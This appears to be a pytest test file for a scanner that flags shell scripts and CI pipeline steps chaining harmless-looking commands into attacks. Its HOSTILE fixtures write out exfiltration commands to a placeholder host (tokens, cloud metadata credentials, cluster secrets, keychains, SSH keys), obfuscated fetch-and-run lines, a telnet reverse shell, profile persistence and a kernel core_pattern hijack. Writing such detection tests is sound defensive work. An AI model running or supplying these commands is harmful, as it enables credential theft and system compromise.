"""Scripts whose commands are harmless one by one, and honest ones that look alike."""

from __future__ import annotations

import pytest

from modelwarden.artifacts import examine
from modelwarden.artifacts.known.flows import Follower
from modelwarden.artifacts.known.pipelines import pipelines
from modelwarden.core import Severity
from modelwarden.formats import Limits, Source

S = "http://e.invalid"
HOSTILE = {
    "a token kept in a variable": f'T=$(gh auth token)\ncurl -s -d "t=$T" {S}/t',
    "the environment kept in a file": f"env > /tmp/e\ncurl -T /tmp/e {S}/",
    "the environment of another program": f"cat /proc/1/environ | tr a b | curl -d @- {S}",
    "keys copied, packed and pushed": (
        f"mkdir -p /tmp/w\ncp ~/.kube/config /tmp/w\ncd /tmp/w && git init\ngit push {S}/w main"
    ),
    "a token of the build in an address": f'wget -qO- "{S}/?t=$GITHUB_TOKEN"',
    "secrets of a cluster": f"kubectl get secrets -A -o json | curl --data-binary @- {S}",
    "a token of a machine in the cloud": (
        f"R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r)\n"
        f'curl -d "$R" {S}'
    ),
    "a keychain": f"security find-generic-password -wa Chrome | curl -d @- {S}",
    "a browser's files": "rsync -a ~/.mozilla/firefox/ e@e.invalid:in/",
    "a command of two variables, over lines": f"a=cu; b=rl\n$a$b -s {S}/x | sh",
    "an address in a variable": (
        f"u={S}\n(wget -q $u/a -O /tmp/.k || curl -o /tmp/.k $u/a)\n/tmp/.k"
    ),
    "letters of a shell": f"$'\\x63\\x75\\x72\\x6c' -s {S}/x -o /tmp/q && $'\\x73\\x68' /tmp/q",
    "octal letters that are printed": "printf '\\143\\165\\162\\154\\040' | sh",
    "turned letters": "echo 'phey | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | bash",
    "a bucket that is run": "aws s3 cp s3://e/stage.sh - | bash",
    "another machine's file that is run": "ssh -o StrictHostKeyChecking=no e@e.invalid cat x | sh",
    "two telnets": "telnet e.invalid 1 | /bin/bash | telnet e.invalid 2",
    "what was decoded into a variable": 'X=$(echo aWQ= | base64 -d)\neval "$X"',
    "unpacked and run": "gunzip -c notes.gz | sh",
    "a function that fetches": f'get() {{ wget -qO- "$1"; }}\nget {S}/x | bash',
    "a function of several lines": f'get() {{\n  curl -s "$1"\n}}\nget {S}/x | bash',
    "answers that are run in a loop": f'while true; do c=$(curl -s {S}/n); eval "$c"; done',
    "what Python runs, decoded": "echo aQ== | base64 -d > /usr/lib/python3/sitecustomize.py",
    "keys that are sought": 'S=$(find / -name "*.pem")\ntar cz $S | nc e.invalid 99',
    "a token in a header, in the clear": (
        f'T=$(cat ~/.cache/huggingface/token)\nwget -q --header="X: $T" {S}/h'
    ),
    "a login of git": f"git config --get http.x.extraheader | base64 | curl -d @- {S}",
    "a line of a profile in quotes": 'echo "bash ~/.cache/.u &" >> ~/.profile',
}
HONEST = {
    "a function that ended before what is decoded": (
        'ident() {\n\techo "export A"\n}\nlist=$(git show | tr "[a-z]" "[A-Z]")\n'
        'x=$(echo aQ== | base64 -d)\neval "$(ident)"'
    ),
    "a function of one line": (
        'ident() { echo "export A"; }\nx=$(echo aQ== | base64 -d)\neval "$(ident)"'
    ),
    "small letters for capital ones": 'n=$(echo "$1" | tr a-z- A-Z_)\neval "$n"=1',
    "classes of letters": 'n=$(echo "$1" | tr "[:lower:]" "[:upper:]")\neval "$n=1"',
    "signs for signs": "n=$(echo a,b | tr ',.' ' _')\neval \"$n\"",
    "where dumps are kept": "echo '/tmp/core.%h.%e.%t' > /proc/sys/kernel/core_pattern",
    "nobody is told of devices": "echo > /sys/kernel/uevent_helper",
    "a token in a header": (
        "T=$(gcloud auth print-access-token)\n"
        'curl -H "Authorization: Bearer $T" https://storage.googleapis.com/b'
    ),
    "a token for its own host": (
        "gcloud auth print-access-token | docker login -u o --password-stdin gcr.io"
    ),
    "a key that logs in": 'scp -i ~/.ssh/deploy_key model.bin "$HOST:/srv/"',
    "a key inside of rsync": 'rsync -az -e "ssh -i ~/.ssh/k" ./ u@h.invalid:/srv/',
    "settings that are fetched": "scp root@h.invalid:/etc/kubernetes/admin.conf ~/.kube/config",
    "a public key": "cat ~/.ssh/id_ed25519.pub | ssh u@h.invalid 'cat >> keys'",
    "an answer that is kept": f'V=$(curl -s {S}/version)\necho $V\nbash -c "echo $V"',
    "a secret of a pipeline": (
        'echo "$KEY" | base64 -d > sa.json\npython upload.py\nshred -u sa.json'
    ),
    "settings into a file": "env > build.env\ndocker run --env-file build.env image",
    "a role asked for": (
        "ROLE=$(curl http://169.254.169.254/latest/meta-data/iam/security-credentials)\n"
        'URL="http://169.254.169.254/latest/meta-data/iam/security-credentials/"$ROLE\n'
        "wget $URL -O iam.json"
    ),
    "a new key": "ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519",
    "a token in a header of the house": (
        'curl -H "Authorization: Bearer $API_TOKEN" http://10.0.0.5:8080/v1/models\n'
        'curl -H "X: $API_TOKEN" http://api:8000/x'
    ),
    "a function that asks": f"get() {{\n  curl -s {S}/v\n}}\nV=$(get)\necho $V | sed s/a/b/",
    "line ends": "tr -d '\\r' < run.txt | sh",
    "a sum of what was fetched": f"curl -LO {S}/a.json\nSUM=`cat v/a.json | md5sum`",
    "an installer beside other things": (
        f"wget {S}/notes.txt -O /tmp/notes.txt\n"
        "wget https://repo.anaconda.com/m.sh -O /tmp/m.sh && bash /tmp/m.sh -b"
    ),
    "a network of a container": "docker run --net=host -e A=1 -v $(pwd):/w image",
    "a mirror by its name": "U=https://astral.sh/uv/install.sh\ncurl -LsSf $U -o uv.sh",
}


ORDER = [Severity.INFO, Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL]
NONE, MEDIUM, HIGH = -1, 2, 3


def _worst(name: str, text: str) -> int:
    found = examine(Source(name, text.encode()), Limits()).findings
    return max((ORDER.index(f.severity) for f in found), default=NONE)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_only_the_order_of_commands_tells_is_an_attack(name: str):
    worst = _worst("start.sh", f"#!/bin/bash\n{HOSTILE[name]}\n")

    assert worst >= HIGH


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_told_in_the_steps_of_a_pipeline_as_well(name: str):
    text = "a:\n  script:\n    - |\n" + "".join(
        f"      {line}\n" for line in HOSTILE[name].split("\n")
    )

    worst = _worst(".gitlab-ci.yml", text)

    assert worst >= MEDIUM


@pytest.mark.parametrize(
    "line",
    [
        "echo '|/tmp/.x %P' > /proc/sys/kernel/core_pattern",
        'echo "$host/cmd" > /sys/kernel/uevent_helper',
    ],
)
def test_a_program_that_the_kernel_shall_start_is_told(line: str):
    assert _worst("start.sh", f"#!/bin/bash\n{line}\n") >= MEDIUM


@pytest.mark.parametrize("name", HONEST)
def test_honest_scripts_that_look_alike_are_quiet(name: str):
    worst = _worst("start.sh", f"#!/bin/bash\n{HONEST[name]}\n")

    assert worst < MEDIUM


def test_a_step_that_starts_what_another_has_fetched_is_told():
    text = f"a:\n  script:\n    - curl -o /tmp/x {S}/x\n    - chmod +x /tmp/x\n    - /tmp/x\n"

    assert _worst(".gitlab-ci.yml", text) == MEDIUM


def test_a_short_step_is_followed_as_well():
    steps = "".join(f"      - run: {one}\n" for one in (f"curl -o t {S}/t", "chmod +x t", "./t"))
    text = f"on: push\njobs:\n  a:\n    steps:\n{steps}"

    assert _worst(".github/workflows/a.yml", text) == MEDIUM


def test_the_user_of_an_image_may_be_its_administrator():
    line = "echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/app"

    assert _worst("Dockerfile", f"FROM x\nRUN useradd app && {line}\n") < MEDIUM
    assert _worst("setup.sh", f"#!/bin/sh\n{line}\n") >= HIGH


def test_a_command_written_as_a_list_is_read_as_one():
    text = 'spec:\n  command: ["nsenter", "-t", "1", "-m", "sh"]\n'

    assert _worst("pod.yaml", text) == MEDIUM


def test_a_program_of_a_step_is_followed_as_python():
    text = (
        "on: push\njobs:\n  a:\n    steps:\n      - shell: python\n        run: |\n"
        "          import os, urllib.request\n"
        f"          urllib.request.urlopen('{S}', data=str(dict(os.environ)).encode())\n"
    )

    assert _worst(".github/workflows/a.yml", text) >= MEDIUM


def test_a_command_given_to_a_scheduler_is_judged():
    text = (
        "from airflow.operators.bash import BashOperator\n"
        f"BashOperator(task_id='a', bash_command='curl -s {S}/x | bash')\n"
    )

    worst = _worst("dag.py", text)

    assert worst >= MEDIUM
    assert _worst("dag.py", text.replace(" | bash", "")) < MEDIUM


def test_quotes_keep_what_stands_in_them_together():
    found = [[stage.bare for stage in one] for one in pipelines("echo 'a|b;c' \"d&e\" | x; y")]

    assert found == [["echo a|b;c d&e", "x"], ["y"]]


def test_a_variable_that_is_set_anew_is_forgotten():
    follower = Follower()

    told = [follower.take(one) for one in ("T=$(gh auth token)", "T=1", f"curl -d $T {S}")]

    assert told == [None, None, None]
